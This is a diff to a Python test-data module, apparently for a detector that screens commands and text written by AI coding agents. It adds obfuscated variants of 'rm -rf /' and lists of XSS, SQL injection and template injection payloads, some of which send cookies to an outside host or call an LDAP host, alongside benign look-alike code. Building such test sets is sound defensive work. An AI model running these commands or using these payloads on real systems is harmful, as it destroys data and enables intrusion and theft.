@@ -73,6 +73,15 @@ _WIPES: Final = (
     "hookbus down",
     "echo x > /etc/passwd",
     "echo x >> ../../outside.txt",
+    "rm${IFS}-rf${IFS}/",
+    "rm$IFS-rf$IFS/",
+    "{rm,-rf,/}",
+    "$'\\x72\\x6d' -rf /",
+    "$'r\\155' -rf /",
+    "echo ${x:-$(rm -rf /)}",
+    'echo "${x:-`rm -rf /`}"',
+    "cat <<X\n$(rm -rf /)\nX",
+    "cat <<-X\n\t`rm -rf /`\n\tX",
 )
 _WRAPPINGS: Final = (
     "{}",
@@ -96,7 +105,85 @@ _WRAPPINGS: Final = (
 
 def hostile_commands() -> list[str]:
     """At least 300 different commands that no coding session needs."""
-    return [wrapping.format(wipe) for wrapping, wipe in product(_WRAPPINGS, _WIPES)]
+    # What follows a here-document's last line must not stand on it.
+    return [
+        wrapping.replace("{}", f"{wipe}\n" if "<<" in wipe else wipe).replace("{{", "{").replace("}}", "}")
+        for wrapping, wipe in product(_WRAPPINGS, _WIPES)
+    ]
+
+
+def injections() -> dict[str, tuple[str, ...]]:
+    """Attacks on the program that reads the text, by the tag each must get."""
+    return {
+        "xss": (
+            "<script>alert(1)</script>",
+            "<SCRIPT >\n prompt(document.domain)</SCRIPT>",
+            "<script>new Image().src='//x/?'+document.cookie</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert`1`>",
+            "<body onload = 'javascript:confirm(1)'>",
+            '<a href="javascript:alert(document.domain)">',
+            '"><details open ontoggle=top.eval(name)>',
+            "data:text/html,<script>x()</script>",
+        ),
+        "sqli": (
+            "' OR 1=1 --",
+            "' or '1'='1",
+            "x') AND 3 > 2 --",
+            "'; DROP TABLE users; --",
+            "1'; delete from accounts --'",
+            "' UNION SELECT null, null, version() --",
+            "' union all select 1,2,group_concat(table_name) from information_schema.tables #",
+            "' OR pg_sleep(10)--",
+            "'; WAITFOR DELAY '0:0:5'--",
+            "exec master..xp_cmdshell 'dir'",
+            "admin'--",
+        ),
+        "ssti": (
+            "{{7*7}}",
+            "${7*7}",
+            "<%= 7 * 7 %>",
+            "#{7*'7'}",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "{% for c in [].__class__.__base__.__subclasses__() %}",
+            "{{config.items()}}",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "${jndi:ldap://x.example/a}",
+            '<#assign x="freemarker.template.utility.Execute"?new()>',
+        ),
+    }
+
+
+def ordinary_code() -> tuple[str, ...]:
+    """Markup, statements and templates as agents write them every day: none is an attack."""
+    return (
+        "<!doctype html><html><head><script src='/app.js' defer></script></head><body onload=\"init()\"></body></html>",
+        "<script>const rows = await fetch('/api/rows').then((r) => r.json()); render(rows);</script>",
+        "<script type='module'>\nimport { start } from './main.js';\nstart();\n</script>",
+        '<button type="button" onclick="save(this.form)">Save</button><a href="javascript:void(0)">x</a>',
+        '<img src="a.png" alt="it\'s here" onerror="this.src=\'/missing.png\'">',
+        "export const App = () => <div onClick={() => setOpen(!open)} dangerouslySetInnerHTML={{__html: html}} />;",
+        "document.cookie = `theme=${theme}; path=/; SameSite=Lax`;",
+        "if (!window.confirm('Delete ' + name + '?')) return; alert('done');",
+        "CREATE TABLE users (id bigint PRIMARY KEY, name text NOT NULL DEFAULT '');\nDROP TABLE old_users;",
+        "UPDATE t SET state = 'done' WHERE id = 1; -- finished\nDELETE FROM t WHERE state = 'x';",
+        "SELECT a FROM t WHERE name = 'x' OR age > 3 UNION ALL SELECT 'a' UNION SELECT b FROM u ORDER BY 1;",
+        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT i FROM n;",
+        "INSERT INTO notes (body) VALUES ('it''s fine'); COMMIT;",
+        "cursor.execute('SELECT * FROM users WHERE name = %s AND active = 1', (name,))",
+        "ALTER TABLE a ADD COLUMN b text DEFAULT 'x'; CREATE INDEX ON a (b); -- for the list page",
+        "{% extends 'base.html' %}{% block body %}{{ user.name|e }} has {{ items|length * 2 }} items{% endblock %}",
+        "{% for row in rows %}<tr><td>{{ row.price * row.count }}</td></tr>{% endfor %}{{ config.SITE_NAME }}",
+        "{{ config(materialized='table') }} select * from {{ ref('orders') }} where {{ var('x') }} = 1",
+        "env:\n  SHA: ${{ github.sha }}\n  N: ${{ strategy.job-index }}\n",
+        "image: {{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}",
+        "const area = `${width * height} px, ${rows.map((r) => r.name).join(', ')}`;",
+        "<%= link_to 'Edit', edit_user_path(@user) %> <%= @total * 2 %>",
+        "echo \"${HOME}/bin\"; echo $((7*7)); printf '%s\\n' '{\"a\": 1}'",
+        "class Meta:\n    def __init__(self): self.__class__.__name__; super().__init__()",
+        "logger.info('user %s or %s', a, b)  # don't; drop it",
+        "git commit -m \"Fix: don't alert() twice; it's the user's; delete old rows -- see notes\"",
+    )
 
 
 _FOLDERS: Final = (
